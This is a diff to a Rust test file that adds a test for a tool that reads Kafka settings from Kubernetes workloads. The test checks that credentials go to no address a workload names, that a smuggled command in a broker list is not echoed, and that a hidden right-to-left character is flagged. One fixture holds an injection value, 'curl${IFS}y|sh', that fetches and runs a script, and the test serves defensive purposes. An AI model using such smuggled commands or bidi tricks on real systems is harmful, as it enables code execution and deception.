@@ -136,3 +136,24 @@ fn a_selector_that_is_not_understood_stays_open() {
     assert_eq!(reading.open[0].variable, SELECTOR);
     assert!(reading.facts.iter().all(|fact| fact.variable != SELECTOR));
 }
+
+/// Somebody who may edit a Deployment must not be sent what is set for another Kafka.
+#[test]
+fn no_address_is_read_where_credentials_are_set_and_none_that_could_be_a_command() {
+    let reading = read(
+        &orders(&[("app", GROUP_AND_BROKERS)]),
+        &set(&[("KAFKA_SASL_PASSWORD_FILE", "/etc/kafka/password")]),
+    );
+    assert_eq!(
+        shown(reading)[2..],
+        [
+            "KAFKA_BOOTSTRAP_SERVERS? KAFKA_SASL_PASSWORD_FILE is set, and is sent to no address that a workload names; set it, or PROMETHEUS_ENDPOINT"
+        ]
+    );
+    let brokers = [("GROUP_ID", "orders"), ("KAFKA_BROKERS", "kafka:9092,x;curl${IFS}y|sh;:9092")];
+    let reading = shown(read(&orders(&[("app", &brokers)]), &set(&[])));
+    assert!(reading.iter().all(|line| !line.contains("curl")), "{reading:#?}");
+    let hidden = [("GROUP_ID", "or\u{202e}ders"), ("KAFKA_BROKERS", "kafka:9092")];
+    let reading = shown(read(&orders(&[("app", &hidden)]), &set(&[])));
+    assert!(reading.iter().any(|line| line.starts_with("KAFKA_GROUP_ID? ")), "{reading:#?}");
+}
